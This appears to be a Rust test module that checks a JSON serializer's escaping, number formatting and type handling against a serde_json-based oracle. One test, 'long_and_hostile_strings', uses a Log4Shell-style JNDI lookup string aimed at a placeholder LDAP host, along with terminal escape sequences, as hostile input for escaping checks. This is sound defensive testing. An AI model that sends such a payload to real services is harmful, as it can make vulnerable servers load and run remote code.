//! The serializer against its oracle: serde_json with the `Contract`
//! formatter, which wrote the contract's JSON until issue 13 item 2.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::fmt;
use std::io::{self, Write};
use std::net::IpAddr;

use serde::Serialize;
use serde_json::ser::{CharEscape, Formatter};

use super::*;

/// serde_json's compact output with the contract's escaping and floats:
/// every control character (C0, DEL, C1) and U+2028/U+2029 as `\u00xx`,
/// never `\b`/`\f`; floats as Rust prints an `f64`.
struct Contract;

impl Formatter for Contract {
    fn write_f64<W: ?Sized + Write>(&mut self, w: &mut W, value: f64) -> io::Result<()> {
        write!(w, "{value}")
    }

    /// serde_json has escaped quotes, backslashes and C0 controls around
    /// `fragment`; DEL, C1 controls and the JavaScript line separators are
    /// escaped here.
    fn write_string_fragment<W: ?Sized + Write>(
        &mut self,
        w: &mut W,
        fragment: &str,
    ) -> io::Result<()> {
        // Most text is printable ASCII: one vectorised test, one write.
        if fragment.bytes().all(|b| b < 0x7f) {
            return w.write_all(fragment.as_bytes());
        }
        let mut start = 0;
        for (i, c) in fragment.char_indices() {
            if c.is_control() || matches!(c, '\u{2028}' | '\u{2029}') {
                w.write_all(&fragment.as_bytes()[start..i])?;
                write!(w, "\\u{:04x}", c as u32)?;
                start = i + c.len_utf8();
            }
        }
        w.write_all(&fragment.as_bytes()[start..])
    }

    fn write_char_escape<W: ?Sized + Write>(
        &mut self,
        w: &mut W,
        escape: CharEscape,
    ) -> io::Result<()> {
        let text: Cow<'static, str> = match escape {
            CharEscape::Quote => "\\\"".into(),
            CharEscape::ReverseSolidus => "\\\\".into(),
            CharEscape::Solidus => "/".into(),
            CharEscape::LineFeed => "\\n".into(),
            CharEscape::CarriageReturn => "\\r".into(),
            CharEscape::Tab => "\\t".into(),
            CharEscape::Backspace => "\\u0008".into(),
            CharEscape::FormFeed => "\\u000c".into(),
            CharEscape::AsciiControl(b) => format!("\\u{b:04x}").into(),
        };
        w.write_all(text.as_bytes())
    }
}

/// `value` as the oracle writes it.
pub(in crate::view::wire) fn oracle(value: &(impl Serialize + ?Sized)) -> String {
    let mut out = Vec::new();
    let mut ser = serde_json::Serializer::with_formatter(&mut out, Contract);
    value.serialize(&mut ser).expect("the oracle writes it");
    String::from_utf8(out).expect("JSON is UTF-8")
}

/// `value` as [`write`] writes it.
pub(in crate::view::wire) fn ours(value: &(impl Serialize + ?Sized)) -> String {
    let mut out = Vec::new();
    write(&mut out, value).expect("the contract has it");
    String::from_utf8(out).expect("JSON is UTF-8")
}

/// Asserts both write `value` the same, and returns it.
#[track_caller]
pub(in crate::view::wire) fn same(value: &(impl Serialize + ?Sized)) -> String {
    let want = oracle(value);
    assert_eq!(ours(value), want);
    want
}

/// Bytes from outside, converted as the wire's `Text` does.
fn lossy(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn every_byte_alone_and_in_text() {
    for b in 0..=255u8 {
        same(&lossy(&[b]));
        same(&lossy(&[b'a', b, b'z']));
        // At every place of a 16-byte block and past it.
        for at in [0, 7, 15, 16, 17, 31, 40] {
            let mut text = vec![b'x'; 41];
            text[at] = b;
            same(&lossy(&text));
        }
    }
}

#[test]
fn every_pair_of_bytes() {
    for a in 0..=255u8 {
        let text: Vec<u8> = (0..=255u8).flat_map(|b| [a, b, b' ']).collect();
        same(&lossy(&text));
    }
}

#[test]
fn every_character() {
    let all: Vec<char> = (0..=0x10ffff).filter_map(char::from_u32).collect();
    for chunk in all.chunks(4096) {
        same(&chunk.iter().collect::<String>());
    }
    for c in [
        '\u{2028}', '\u{2029}', '\u{85}', '\u{7f}', '\u{9f}', '\u{a0}', '"',
    ] {
        same(&c);
        same(&format!("{c}{c}x{c}"));
    }
}

#[test]
fn long_and_hostile_strings() {
    let probe = "${jndi:ldap://198.51.100.7/a}\"\\\n\r\t\u{8}\u{c}\u{1b}[2J/\u{2028}\u{2029}\u{85}é日本\u{fffd}";
    for n in [1, 3, 64, 1000] {
        same(&probe.repeat(n));
        same(&format!("{}{probe}", "a".repeat(n)));
        same(&"Mozilla/5.0 (X11; Linux x86_64) ".repeat(n));
    }
    same(&lossy(b"\xff\xfe\xc0\xaf\xed\xa0\x80\xe2\x80\xf0\x9f\x98"));
    same("");
}

#[test]
fn numbers() {
    for f in [
        0.0,
        -0.0,
        1.5,
        2.0 / 3.0,
        1e-7,
        1e6,
        1e21,
        1e300,
        f64::MAX,
        f64::MIN,
        f64::MIN_POSITIVE,
        f64::EPSILON,
        f64::NAN,
        f64::INFINITY,
        f64::NEG_INFINITY,
    ] {
        same(&f);
    }
    same(&[u64::MIN, 1, 9, 10, 99, 100, u64::from(u32::MAX), u64::MAX]);
    same(&[i64::MIN, -1, 0, 1, i64::MAX]);
    same(&(u8::MAX, u16::MAX, u32::MAX, i8::MIN, i16::MIN, i32::MIN));
    same(&(usize::MAX, isize::MIN));
}

#[test]
fn options_bools_and_compounds() {
    same(&(None::<u32>, Some(7u32), Some(None::<&str>), true, false, ()));
    same(&Vec::<u32>::new());
    same(&BTreeMap::<&str, u32>::new());
    let map: BTreeMap<String, Vec<Option<f64>>> = [
        ("a\"\u{1}\u{2028}".to_string(), vec![Some(1.5), None]),
        (lossy(b"\xff\x7f"), vec![]),
    ]
    .into();
    same(&map);
    same(&[[1u8, 2], [3, 4]]);
    same(&'\u{0}');
}

#[test]
fn structs_keys_and_skipped_fields() {
    #[derive(Serialize)]
    struct Inner<'a> {
        text: &'a str,
        #[serde(skip_serializing_if = "Option::is_none")]
        note: Option<&'a str>,
    }
    #[derive(Serialize)]
    struct Outer<'a> {
        #[serde(rename = "type")]
        kind: &'static str,
        #[serde(flatten)]
        inner: Inner<'a>,
        list: Vec<Inner<'a>>,
        unit: (),
    }
    #[derive(Serialize)]
    struct Empty {}
    #[derive(Serialize)]
    struct Newtype(u32);
    #[derive(Serialize)]
    struct Pair(u32, &'static str);
    #[derive(Serialize)]
    enum Kind {
        Plain,
    }
    let text = "a\u{0}\"";
    same(&Outer {
        kind: "ip",
        inner: Inner { text, note: None },
        list: vec![
            Inner {
                text,
                note: Some("x"),
            },
            Inner {
                text: "",
                note: None,
            },
        ],
        unit: (),
    });
    same(&Empty {});
    same(&(Newtype(3), Pair(1, "\u{7f}"), Kind::Plain));
}

#[test]
fn displayed_values() {
    /// A Display in many pieces, some needing escapes.
    struct Pieces;
    impl fmt::Display for Pieces {
        fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
            f.write_str("a")?;
            f.write_str("\u{1b}[31m\"")?;
            write!(f, "{}\u{2028}", 12)
        }
    }
    struct Shown<T>(T);
    impl<T: fmt::Display> Serialize for Shown<T> {
        fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
            s.collect_str(&self.0)
        }
    }
    for ip in ["203.0.113.7", "2001:db8::1", "::ffff:1.2.3.4", "::"] {
        let ip: IpAddr = ip.parse().unwrap();
        same(&ip);
        same(&Shown(ip));
    }
    same(&Shown(Pieces));
    same(&Shown("plain"));
    same(&(Shown(""), Shown(1.5)));
    // A displayed map key.
    let map: BTreeMap<IpAddr, u8> = [("192.0.2.1".parse().unwrap(), 1)].into();
    same(&map);
}

/// What no wire type uses is an error, not a panic.
#[test]
fn what_the_contract_lacks_is_an_error() {
    #[derive(Serialize)]
    enum Data {
        Newtype(u32),
        Tuple(u32, u32),
        Struct { a: u32 },
    }
    let mut out = Vec::new();
    assert!(write(&mut out, &serde_bytes_like()).is_err());
    assert!(write(&mut out, &Data::Newtype(1)).is_err());
    assert!(write(&mut out, &Data::Tuple(1, 2)).is_err());
    assert!(write(&mut out, &Data::Struct { a: 1 }).is_err());
    assert!(write(&mut out, &1i128).is_err());
    assert!(write(&mut out, &1u128).is_err());
    assert!(write(&mut out, &1.5f32).is_err());
    let numbered: BTreeMap<u32, u32> = [(1, 2)].into();
    assert!(write(&mut out, &numbered).is_err());
    assert!(write(&mut out, &BTreeMap::from([(true, 1)])).is_err());
    assert!(write(&mut out, &BTreeMap::from([(None::<&str>, 1)])).is_err());
    assert!(write(&mut out, &BTreeMap::from([((), 1)])).is_err());
    let error = write(&mut out, &Data::Newtype(1)).unwrap_err();
    assert!(error.to_string().contains("enum with data"), "{error}");

    /// Serializes as bytes.
    fn serde_bytes_like() -> impl Serialize {
        struct Bytes;
        impl Serialize for Bytes {
            fn serialize<S: serde::Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
                s.serialize_bytes(b"raw")
            }
        }
        Bytes
    }
}

/// Every object of the golden fixtures and the events fixture, read back
/// into `serde_json::Value`s, comes out the same.
#[test]
fn golden_fixtures_objects() {
    let dirs = ["tests/data/golden", "tests/data/events"];
    let mut objects = 0;
    for dir in dirs {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(dir);
        for entry in std::fs::read_dir(&dir).unwrap() {
            let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
            for line in text.lines().filter(|l| l.starts_with('{')) {
                // The fixtures' unquoted placeholders (a reason's age, a count).
                let line = line.replace("<age>", "12").replace("<n>", "3");
                let value: serde_json::Value = serde_json::from_str(&line).unwrap();
                same(&value);
                objects += 1;
            }
        }
    }
    assert!(objects > 50, "{objects} objects");
}

/// The fast path's test agrees with the slow path on every byte.
#[test]
fn plain_bytes_are_the_ones_copied_as_they_are() {
    for b in 0..=255u8 {
        let plain = (0x20..0x7f).contains(&b) && b != b'"' && b != b'\\';
        assert_eq!(is_plain(&[b]), plain, "{b:#x}");
        assert_eq!(is_plain(&[[b'a'; 20].as_slice(), &[b]].concat()), plain);
    }
    // One byte needing care anywhere in a string of any length up to three
    // blocks: in a block, in the tail, in a padded short string.
    for len in 0..=48 {
        assert!(is_plain(&vec![b'a'; len]));
        for at in 0..len {
            for b in [0, b'"', b'\\', 0x7f, 0xc2] {
                let mut text = vec![b'a'; len];
                text[at] = b;
                assert!(!is_plain(&text), "{len} {at} {b:#x}");
            }
        }
    }
}
